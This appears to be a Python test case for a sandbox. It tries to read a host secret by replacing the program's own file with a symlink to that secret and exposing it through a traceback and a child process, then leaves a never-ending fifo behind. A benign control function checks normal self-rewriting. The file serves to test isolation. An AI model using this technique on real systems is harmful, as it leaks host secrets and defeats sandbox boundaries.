"""Replace the program's own file by a link to a secret of the host.

Technique: Whoever reads main.py after it began, to show a line of it in a traceback or to keep it, reads what it is
    then: a link to a file of the host, a fifo that never ends, a directory. Python itself reads it for its traceback.
Success: the traceback, or a child that runs the file, shows the host's secret.
Stopped by: root_filesystem
"""

import subprocess
import traceback

PROGRAM = "/work/main.py"


def attack():
    secret = canary["file"]
    os.symlink(secret, "/work/link")
    os.replace("/work/link", PROGRAM)
    shown = ""
    try:
        exec(compile("\n\nboom", PROGRAM, "exec"))
    except NameError:
        shown = traceback.format_exc()
    shown += subprocess.run([sys.executable, PROGRAM], capture_output=True, text=True).stderr
    # What stays behind for whoever looks at it later.
    os.unlink(PROGRAM)
    os.mkfifo(PROGRAM)
    return "canary-" in shown and shown[-200:]


def twin():
    """A program reads, moves and rewrites its own file, and runs it again."""
    with open(PROGRAM) as file:
        text = file.read()
    assert "parameters" in text
    with open("/work/new.py", "w") as file:
        file.write("print('hello')")
    os.replace("/work/new.py", PROGRAM)
    assert subprocess.run([sys.executable, PROGRAM], capture_output=True, text=True).stdout == "hello\n"
